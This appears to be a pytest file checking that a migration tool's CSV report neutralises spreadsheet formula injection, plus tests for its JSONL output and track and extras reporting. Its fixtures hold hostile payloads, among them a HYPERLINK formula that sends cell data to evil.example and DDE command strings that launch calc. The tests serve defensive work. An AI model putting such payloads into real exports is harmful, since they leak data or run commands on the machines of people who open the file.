"""`migrator report` output: what a spreadsheet opening the CSV would see, and JSON Lines left exact."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

from migrator_cli.report import COLUMNS, write_report

# Ids come from the operator's inventory, remote ids and errors from the provider: none is trusted.
HOSTILE = [
    {"asset_id": '=HYPERLINK("https://evil.example/"&A1,"x")', "state": "ready", "drift_s": Decimal("-0.5")},
    {"asset_id": "+1+2", "remote_id": "@SUM(1+1)*cmd|' /C calc'!A0", "attempts": Decimal("3")},
    {"asset_id": "-2+3", "last_error": "HTTP 400: bad\r\n=cmd|' /C calc'!A0", "duration_s": Decimal("61.25")},
    {"asset_id": "\tlib/tab", "remote_id": "\r=1+1", "last_error": "line one\nline two\rthree"},
    {"asset_id": "  =padded", "source_url": "https://media.example.com/a.mp4", "updated_at": Decimal("1700000000")},
    {"asset_id": "lib/plain-1", "title": "ignored", "last_error": "HTTP 429: slow down; retry in 2 s"},
]


def csv_rows(items: list[dict]) -> tuple[str, list[dict]]:
    out = io.StringIO(newline="")
    assert write_report(iter(items), out, "csv") == len(items)
    text = out.getvalue()
    return text, list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_csv_report_neutralises_cells_a_spreadsheet_would_run_as_formulas():
    _, rows = csv_rows(HOSTILE)
    formula_start = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(formula_start) or _is_number(cell), (column, cell)
            assert not cell.lstrip().startswith(formula_start) or _is_number(cell), (column, cell)
    assert rows[0]["id"] == '\'=HYPERLINK("https://evil.example/"&A1,"x")'
    assert rows[1]["id"] == "'+1+2" and rows[1]["remote_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[2]["id"] == "'-2+3"
    assert rows[3]["id"] == "'\tlib/tab" and rows[3]["remote_id"] == "' =1+1"
    assert rows[4]["id"] == "'  =padded"
    assert rows[5]["id"] == "lib/plain-1"  # harmless text is left as it is


def test_csv_report_numbers_stay_numbers_even_when_negative():
    _, rows = csv_rows(HOSTILE)
    assert rows[0]["drift_s"] == "-0.5"  # a number a spreadsheet reads as -0.5, not the text '-0.5
    assert rows[1]["attempts"] == "3" and rows[2]["duration_s"] == "61.25" and rows[4]["updated_at"] == "1700000000"
    assert rows[0]["attempts"] == ""  # absent stays empty


def test_csv_report_keeps_one_line_per_asset_whatever_the_text_holds():
    text, rows = csv_rows(HOSTILE)
    assert text.count("\n") == len(HOSTILE) + 1 and "\r" not in text
    assert text.splitlines()[0] == ",".join(COLUMNS)
    assert len(text.splitlines()) == len(HOSTILE) + 1
    assert len(rows) == len(HOSTILE) and all(len(row) == len(COLUMNS) for row in rows)
    assert rows[2]["last_error"] == "HTTP 400: bad  =cmd|' /C calc'!A0"
    assert rows[3]["last_error"] == "line one line two three"


def test_jsonl_report_stays_exact_for_machines():
    out = io.StringIO()
    assert write_report(iter(HOSTILE), out, "jsonl") == len(HOSTILE)
    lines = out.getvalue().splitlines()
    assert len(lines) == len(HOSTILE)
    docs = [json.loads(line) for line in lines]
    assert [doc["id"] for doc in docs] == [item["asset_id"] for item in HOSTILE]
    assert docs[0]["drift_s"] == -0.5 and docs[1]["attempts"] == 3
    assert docs[3]["last_error"] == "line one\nline two\rthree" and docs[3]["remote_id"] == "\r=1+1"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


NOTED = [
    {
        "asset_id": "lib/1",
        "state": "ready",
        "privacy": "private",
        "playback": "signed",
        "fidelity_notes": ["description: not carried by mux (kept in the ledger)", "=title: cut to 512 characters"],
    },
    {"asset_id": "lib/2", "state": "ready"},
]


def test_the_report_says_how_each_video_plays_and_what_its_create_could_not_carry():
    _, rows = csv_rows(NOTED)
    assert (rows[0]["privacy"], rows[0]["playback"]) == ("private", "signed")
    assert rows[0]["fidelity_notes"] == (
        "description: not carried by mux (kept in the ledger); =title: cut to 512 characters"
    )
    assert rows[1]["fidelity_notes"] == "" and rows[1]["playback"] == ""
    out = io.StringIO()
    write_report(iter(NOTED), out, "jsonl")
    docs = [json.loads(line) for line in out.getvalue().splitlines()]
    assert docs[0]["fidelity_notes"] == NOTED[0]["fidelity_notes"] and docs[1]["fidelity_notes"] is None
    assert docs[0]["playback"] == "signed"


TRACKED = {
    "asset_id": "lib/captioned",
    "state": "ready",
    "tracks": [
        {"url": "https://c.example.com/en.srt", "language": "en", "kind": "captions", "format": "srt"},
        {"url": "https://10.0.0.1/fr.vtt", "language": "fr", "kind": "subtitles"},
        {"url": "https://c.example.com/de.vtt", "language": "de"},
    ],
    "track_states": {
        "en.captions.": {"state": "attached", "attempts": Decimal("1"), "remote_track_id": "t1", "lease_token": "x"},
        "fr.subtitles.": {
            "state": "failed",
            "attempts": Decimal("1"),
            "error": "=the track URL's host 10.0.0.1 is private",
        },
    },
}


def test_the_csv_report_counts_each_assets_tracks_and_says_why_each_failed():
    _, [row, untracked] = csv_rows([TRACKED, {"asset_id": "lib/plain", "state": "ready"}])
    assert (row["tracks_attached"], row["tracks_pending"], row["tracks_failed"]) == ("1", "0", "1")
    # The cell starts with a track key (a language tag: letters), so no reason can start a formula.
    assert row["track_failures"] == "fr.subtitles.: =the track URL's host 10.0.0.1 is private"
    assert untracked["tracks_attached"] == "" and untracked["track_failures"] == ""


def test_the_jsonl_report_lists_every_track_with_its_state_and_leaves_out_leases():
    out = io.StringIO()
    write_report(iter([TRACKED]), out, "jsonl")
    doc = json.loads(out.getvalue())
    assert [(t["key"], t["state"]) for t in doc["tracks"]] == [
        ("en.captions.", "attached"),
        ("fr.subtitles.", "failed"),
        ("de.captions.", "pending"),  # not armed yet: the video is not ready
    ]
    assert doc["tracks"][0] == {
        "key": "en.captions.",
        "url": "https://c.example.com/en.srt",
        "language": "en",
        "kind": "captions",
        "format": "srt",
        "state": "attached",
        "attempts": 1,
        "remote_track_id": "t1",
    }
    assert doc["tracks_failed"] == 1 and "lease_token" not in json.dumps(doc)
    out = io.StringIO()
    write_report(iter([{"asset_id": "lib/plain", "state": "ready"}]), out, "jsonl")
    plain = json.loads(out.getvalue())  # every line has the same fields
    assert plain["tracks"] == [] and plain["tracks_attached"] is None and set(plain) == set(doc)


EXTRAS = {
    "asset_id": "lib/shown",
    "state": "ready",
    "track_states": {
        "en.captions.": {"state": "attached", "attempts": Decimal("1")},  # armed by 0.3.0: no kind
        "thumbnail": {"state": "noted", "kind": "thumbnail", "note": "mux takes a poster time only: set to 5 s"},
        "chapters": {"state": "failed", "kind": "chapters", "error": "not a chapters file: SubRip"},
        "collection:aa": {"state": "attached", "kind": "collection", "collection": "aa", "remote_track_id": "c1"},
        "collection:bb": {"state": "noted", "kind": "collection", "collection": "bb", "note": "one collection only"},
    },
}


def test_the_csv_report_shows_each_extra_apart_from_the_caption_tracks_with_what_was_done_instead():
    _, [row] = csv_rows([EXTRAS])
    assert (row["tracks_attached"], row["tracks_pending"], row["tracks_failed"]) == ("1", "0", "0")
    assert (row["thumbnail"], row["chapters"], row["collections"]) == ("noted", "failed", "1 attached, 1 noted")
    assert row["track_failures"] == "chapters: not a chapters file: SubRip"
    assert row["extras_notes"] == (
        "collection:bb: one collection only | thumbnail: mux takes a poster time only: set to 5 s"
    )


def test_the_jsonl_report_lists_every_extra_with_its_kind_state_and_note():
    out = io.StringIO()
    write_report(iter([EXTRAS]), out, "jsonl")
    doc = json.loads(out.getvalue())
    assert [(e["key"], e["kind"], e["state"]) for e in doc["extras"]] == [
        ("chapters", "chapters", "failed"),
        ("collection:aa", "collection", "attached"),
        ("collection:bb", "collection", "noted"),
        ("thumbnail", "thumbnail", "noted"),
    ]
    assert doc["extras"][1] == {
        "key": "collection:aa",
        "kind": "collection",
        "state": "attached",
        "remote_track_id": "c1",
        "collection": "aa",
    }
